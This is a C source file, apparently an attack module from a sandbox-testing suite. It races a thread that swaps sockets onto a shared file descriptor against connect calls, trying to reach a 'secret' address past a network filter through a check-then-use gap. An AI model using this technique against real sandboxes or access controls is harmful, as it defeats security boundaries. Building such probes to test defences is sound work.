#include "attack.h"
#include "network.h"

static int swapped;
static volatile int swap_over;

static char recv_now(int socket)
{
    char byte = 0;
    return recv(socket, &byte, 1, MSG_DONTWAIT) == 1 ? byte : 0;
}

static void *keep_swapping(void *none)
{
    while (!swap_over) {
        int fresh = tcp();
        dup2(fresh, swapped);
        close(fresh);
    }
    return none;
}

static int attempt(const char *target, const char *workspace, const char *extra)
{
    /* The descriptor is another socket between the moment it is looked at and the moment it is used. */
    (void)target, (void)workspace;
    struct places at = places_of(extra);
    swapped = tcp();
    pthread_t other;
    if (pthread_create(&other, NULL, keep_swapping, NULL) != 0)
        return 0;
    int reached = 0;
    for (int i = 0; i < 60 && !reached; i++) {
        connects(swapped, i % 2 ? &at.secret : &at.open);
        reached = recv_now(swapped) == '!';
    }
    swap_over = 1;
    pthread_join(other, NULL);
    int last = tcp();
    return reached || (connects(last, &at.secret) && greeting(last) == '!');
}
